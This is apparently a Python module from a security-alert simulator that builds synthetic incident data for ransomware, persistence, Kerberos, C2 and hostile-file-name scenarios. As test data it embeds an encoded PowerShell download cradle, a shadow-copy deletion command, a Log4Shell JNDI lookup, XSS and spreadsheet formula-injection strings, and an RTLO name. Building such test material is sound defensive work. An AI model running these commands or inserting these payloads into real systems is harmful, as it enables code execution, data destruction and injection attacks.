"""Attacks on machines: ransomware, hands on keyboard, command and control, small malware."""

from simulator.stories import names
from simulator.stories.estate import Machine, Person
from simulator.stories.evidence_cloud import connection
from simulator.stories.identity import bad_ip
from simulator.stories.script import Script

ENCODED = (
    "powershell.exe -nop -w hidden -enc "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
)


def ransomware(script: Script) -> None:
    """Word -> PowerShell -> command and control -> shadow copies -> encrypted files."""
    estate, make, rng = script.estate, script.make, script.rng
    victim = rng.choice(estate.staff)
    machine, server = estate.machine_of(victim), estate.servers[2]
    opened = script.at(0)
    document = make.file(
        "Rechnung_Nr_4711.docm",
        f"C:\\Users\\{victim.sam}\\Downloads",
        opened,
        machine,
        verdict="malicious",
    )
    word = make.process(
        "WINWORD.EXE",
        f'"WINWORD.EXE" /n "C:\\Users\\{victim.sam}\\Downloads\\Rechnung_Nr_4711.docm"',
        opened,
        machine,
        victim,
    )
    script.alert(
        "office_child",
        opened,
        [make.device(machine, opened, victim), make.user(victim, opened), document, word],
        kind="attack",
        event="open",
    )
    ran = script.at(4)
    shell = make.process("powershell.exe", ENCODED, ran, machine, victim, parent="WINWORD.EXE")
    script.alert(
        "encoded_powershell",
        ran,
        [
            make.device(machine, ran, victim),
            make.user(victim, ran),
            shell,
            make.registry_key("Software\\Microsoft\\Windows\\CurrentVersion\\Run", ran),
            make.registry_value(
                "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "OneDriveUpd",
                "C:\\ProgramData\\upd.exe",
                ran,
                machine,
            ),
        ],
        kind="attack",
        event="shell",
        host=machine.host,
    )
    _reach_server(script, victim, machine, server)
    _encrypt(script, victim, server)


def _reach_server(script: Script, victim: Person, machine: Machine, server: Machine) -> None:
    make = script.make
    address, domain = bad_ip(script), script.rng.choice(names.BAD_DOMAINS)
    called = script.at(8)
    script.alert(
        "c2",
        called,
        [
            make.device(machine, called, victim),
            make.dns(domain, called, address, machine),
            make.ip(address, called, roles=["commandAndControl"]),
            make.url(f"https://{domain}/gate.php", called),
            connection(make, called, machine.inside_ip, address, 443),
        ],
        kind="attack",
        event="call",
        incident="network",
    )
    moved = script.at(31)
    script.alert(
        "disruption",
        moved,
        [make.device(server, moved, victim), make.user(victim, moved)],
        kind="attack",
        event="moved",
        incident="network",
        host=server.host,
    )


def _encrypt(script: Script, victim: Person, server: Machine) -> None:
    make = script.make
    wiped = script.at(44)
    delete = make.process("vssadmin.exe", "vssadmin delete shadows /all /quiet", wiped, server)
    script.alert(
        "shadow_copies",
        wiped,
        [make.device(server, wiped, victim), delete],
        kind="attack",
        event="encrypt",
        incident="server",
    )
    note = make.file("akira_readme.txt", "D:\\Shares\\Finance", wiped, server)
    locker = make.file("w.exe", "C:\\PerfLogs", wiped, server, verdict="malicious")
    malware = make.malware("Ransom:Win64/Akira", "Ransomware", wiped, [locker], [])
    first = script.alert(
        "ransomware",
        wiped,
        [
            make.device(server, wiped, victim),
            note,
            locker,
            malware,
            make.file_hash(locker["fileDetails"], wiped),
        ],
        kind="attack",
        event="encrypt",
        incident="server",
        host=server.host,
    )
    script.change(first, script.at(70), investigationState="partiallyRemediated")


def persistence(script: Script) -> None:
    """A quiet foothold on one machine, seen twice."""
    estate, make, rng = script.estate, script.make, script.rng
    owner = rng.choice(estate.staff)
    machine = estate.machine_of(owner)
    bound = script.at(0)
    powershell = make.process(
        "powershell.exe",
        '"powershell.exe" ',
        bound,
        machine,
        None,
        path="C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    )
    script.alert(
        "wmi_consumer",
        bound,
        [make.device(machine, bound, owner), powershell],
        kind="attack",
        event="wmi",
    )
    hidden = script.at(16)
    hiding = make.process(
        "svch0st.exe",
        '"C:\\Users\\Public\\svch0st.exe" -k',
        hidden,
        machine,
        owner,
        path="C:\\Users\\Public",
    )
    script.alert(
        "hidden_file",
        hidden,
        [
            make.device(machine, hidden, owner),
            hiding,
            make.file("svch0st.exe", "C:\\Users\\Public", hidden, machine),
        ],
        kind="attack",
        event="hidden",
        incident="second",
    )


def kerberos_attack(script: Script) -> None:
    """Reconnaissance and ticket attacks, reported by Defender for Identity and by Sentinel."""
    estate, make, rng = script.estate, script.make, script.rng
    attacker = rng.choice(estate.staff)
    machine = estate.machine_of(attacker)
    asked = script.at(0)
    script.alert(
        "recon_ldap",
        asked,
        [make.user(attacker, asked), make.device(machine, asked, attacker)],
        kind="attack",
        event="recon",
        host=machine.host,
    )
    roasted = script.at(13)
    script.alert(
        "kerberoast",
        roasted,
        [make.user(attacker, roasted), make.device(machine, roasted, attacker)],
        kind="attack",
        event="roast",
        host=machine.host,
    )
    forged = script.at(48)
    script.alert(
        "golden_ticket",
        forged,
        [make.device(machine, forged, attacker), make.user(attacker, forged)],
        kind="attack",
        event="ticket",
        incident="late",
        host=machine.host,
    )


def nation_state(script: Script) -> None:
    """An address of a known actor, reported twice."""
    estate, make = script.estate, script.make
    machine, address = estate.servers[4], bad_ip(script)
    seen = script.at(0)
    script.alert(
        "ti_match",
        seen,
        [
            make.device(machine, seen),
            make.ip(address, seen, roles=["commandAndControl"], verdict="malicious"),
        ],
        kind="attack",
        event="call",
    )
    script.alert(
        "c2",
        seen,
        [make.device(machine, seen), make.ip(address, seen, verdict="malicious")],
        kind="attack",
        event="call",
        incident="endpoint",
    )


def hostile_names(script: Script) -> None:
    """Names that attackers choose: markup, formulas, control characters, other scripts."""
    estate, make, rng = script.estate, script.make, script.rng
    owner = rng.choice(estate.staff)
    machine = estate.machine_of(owner)
    hostile = (
        "<img src=x onerror=alert(1)>.exe",
        '=HYPERLINK("https://micros0ft-login.example";"open").xlsx',
        "\u202egnp.exe",
        "{{7*7}}${jndi:ldap://198.51.100.9/a}.jar",
        f"@SUM(1+1)*cmd|' /C calc'!A0 {owner.upn}.csv",
    )
    for turn, name in enumerate(rng.sample(hostile, 2)):
        found = script.at(turn * 6)
        script.alert(
            "malware_prevented",
            found,
            [
                make.device(machine, found, owner),
                make.file(
                    name,
                    f"C:\\Users\\{owner.sam}\\Downloads",
                    found,
                    machine,
                    verdict="malicious",
                    remediationStatus="prevented",
                ),
            ],
            kind="noise",
            harmless=False,
            event=f"file-{turn}",
            extra=name,
            severity="low",
        )
    ruled = script.at(14)
    title = f"=cmd|' /C calc'!A1 <script>alert('{owner.name}')</script> on {machine.host}"
    script.alert(
        "custom",
        ruled,
        [make.device(machine, ruled, owner), make.user(owner, ruled)],
        kind="noise",
        event="rule",
        extra=title,
    )
